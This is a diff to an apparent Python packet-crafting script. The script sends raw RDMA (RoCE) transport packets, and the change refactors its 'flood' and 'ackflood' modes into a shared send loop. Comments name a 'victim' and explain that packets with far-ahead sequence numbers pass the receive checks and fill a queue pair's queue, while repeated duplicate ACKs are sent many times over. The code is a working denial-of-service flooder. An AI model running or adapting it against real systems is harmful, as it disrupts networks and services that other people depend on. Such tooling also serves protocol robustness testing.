@@ -56,6 +56,18 @@ def transport(kind, qpn, psn, args):
     raise SystemExit("unknown kind " + kind)
 
 
+def blast(s, dst, seconds, pkts):
+    """Sends the prebuilt packets PKTS round and round for SECONDS (the
+    loop only sends); prints how many went."""
+    end, sent = time.time() + seconds, 0
+    while time.time() < end:
+        for p in pkts:
+            s.sendto(p, (dst, 0))
+        sent += len(pkts)
+    print("sent", sent)
+    return 0
+
+
 def main():
     argv = sys.argv[1:]
     count = 1
@@ -67,31 +79,17 @@ def main():
     qpn, psn, args = int(qpn, 0), int(psn, 0), argv[5:]
     s = r.raw_socket()
     if kind == "flood":
-        # Prebuilt packets: the loop only sends. PSNs far ahead of the
-        # victim's, so each one passes the receive path's checks and
-        # waits in the QP's queue until its work drops it.
-        pkts = [r.packet(src, dst, r.bth(r.RC | r.SEND_ONLY, qpn,
-                                         psn + 100000 + i) + PAYLOAD * 8,
-                         ident=i & 0xffff) for i in range(256)]
-        end, sent = time.time() + float(args[0]), 0
-        while time.time() < end:
-            for p in pkts:
-                s.sendto(p, (dst, 0))
-            sent += len(pkts)
-        print("sent", sent)
-        return 0
+        # PSNs far ahead of the victim's, so each one passes the receive
+        # path's checks and waits in the QP's queue until its work drops it.
+        return blast(s, dst, float(args[0]), [
+            r.packet(src, dst, r.bth(r.RC | r.SEND_ONLY, qpn, psn + 100000 + i)
+                     + PAYLOAD * 8, ident=i & 0xffff) for i in range(256)])
     if kind == "ackflood":
         # What a peer that ACKs every duplicate of a resent window sends:
         # the same ACK, many times over.
-        pkts = [r.packet(src, dst, r.bth(r.RC | r.ACK, qpn, psn, ackreq=False)
-                         + r.aeth(0x1f, 1), ident=i) for i in range(256)]
-        end, sent = time.time() + float(args[0]), 0
-        while time.time() < end:
-            for p in pkts:
-                s.sendto(p, (dst, 0))
-            sent += len(pkts)
-        print("sent", sent)
-        return 0
+        return blast(s, dst, float(args[0]), [
+            r.packet(src, dst, r.bth(r.RC | r.ACK, qpn, psn, ackreq=False)
+                     + r.aeth(0x1f, 1), ident=i) for i in range(256)])
     t = transport(kind, qpn, psn, args)
     for i in range(count):
         s.sendto(r.packet(src, dst, t, ident=0x200 + i), (dst, 0))
